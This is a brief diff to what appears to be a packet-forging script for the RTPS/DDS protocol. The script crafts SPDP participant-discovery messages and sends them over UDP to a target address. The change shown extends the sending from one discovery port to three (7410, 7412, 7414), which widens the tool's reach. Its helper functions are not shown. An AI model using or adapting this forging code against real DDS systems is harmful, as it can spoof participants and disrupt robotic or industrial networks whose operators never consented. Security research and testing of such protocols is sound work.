@@ -26,11 +26,12 @@ def record(address):
 
 
 def main():
-    target = (sys.argv[1], 7410)
     forger = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     for seq in NUMBERS:
-        forger.sendto(b"RTPS\x02\x03\x01\x0f" + SERVER +
-                      data(SPDP_READER, SPDP_WRITER, seq, record(sys.argv[1])), target)
+        message = b"RTPS\x02\x03\x01\x0f" + SERVER
+        message += data(SPDP_READER, SPDP_WRITER, seq, record(sys.argv[1]))
+        for port in (7410, 7412, 7414):
+            forger.sendto(message, (sys.argv[1], port))
 
 
 if __name__ == "__main__":
